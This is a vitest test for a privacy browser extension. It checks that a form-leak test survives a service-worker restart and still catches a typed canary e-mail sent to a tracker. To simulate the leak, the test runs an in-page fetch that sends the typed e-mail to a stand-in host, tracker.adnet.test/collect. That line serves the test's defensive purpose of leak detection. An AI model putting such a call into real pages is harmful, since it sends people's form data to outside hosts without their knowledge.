// "Test forms" watches what the page sends until the page changes (at most 10 minutes). A worker stopped meanwhile (a
// crash, a forced stop, or the idle stop 30 s after a quiet page's last event) must not end that watch unsaid: a copy
// of a typed value sent after the restart is still a leak.
import { expect, it } from 'vitest';
import { sendToBackground, stopServiceWorker } from '../../cli/browser/index.ts';
import { FORM_KEY_PREFIX } from '../../entrypoints/background/form-test.ts';
import { openTab, recordOf, settledRecord, SHOP, useHarness } from './helpers.ts';

declare const chrome: { storage: { session: { get(keys: null): Promise<Record<string, unknown>> } } };

const h = useHarness();

it('a form test started before a worker stop still finds the typed e-mail sent after the restart', async () => {
  const { page, tabId } = await openTab(h, `${SHOP}/forms/compliant.html`);
  await settledRecord(h, tabId, (r) => r.requests.length > 0);
  const answer = await sendToBackground(h.context, h.extensionId, { type: 'form-test', tabId });
  expect(answer).toMatchObject({ started: true, filled: 3 });
  await settledRecord(h, tabId, (r) => (r.formTest?.fields.length ?? 0) === 3);
  const worker0 = h.context.serviceWorkers().find((w) => w.url().startsWith(`chrome-extension://${h.extensionId}/`));
  const before = Object.keys((await worker0?.evaluate(() => chrome.storage.session.get(null))) ?? {});
  expect(before).toContain(`${FORM_KEY_PREFIX}${tabId}`);
  await stopServiceWorker(h.context);
  // The page's own script (as a tracker's would) sends what was typed, once the worker has stopped.
  const email = await page.inputValue('input[type=email]');
  expect(email).toMatch(/^ca-[a-z]{10}@shop\.test$/);
  await page.evaluate(
    (e) => fetch(`https://tracker.adnet.test/collect?late=${encodeURIComponent(e)}`, { mode: 'no-cors' }),
    email,
  );
  const record = await settledRecord(h, tabId, (r) => (r.formLeaks ?? []).length > 0, 10_000).catch(() =>
    recordOf(h, tabId),
  );
  expect(
    record?.formLeaks ?? [],
    `no leak after the restart; requests ${JSON.stringify(record?.requests.map((q) => q.url))}`,
  ).toContainEqual(expect.objectContaining({ host: 'tracker.adnet.test', field: 'email' }));
  // The page changes: the test ends, and its stored canaries go with it.
  await page.goto(`${SHOP}/clean.html`);
  await settledRecord(h, tabId, (r) => r.url === `${SHOP}/clean.html`);
  const worker = h.context.serviceWorkers().find((w) => w.url().startsWith(`chrome-extension://${h.extensionId}/`));
  await expect
    .poll(async () => Object.keys((await worker?.evaluate(() => chrome.storage.session.get(null))) ?? {}))
    .not.toContainEqual(`${FORM_KEY_PREFIX}${tabId}`);
  await page.close();
});
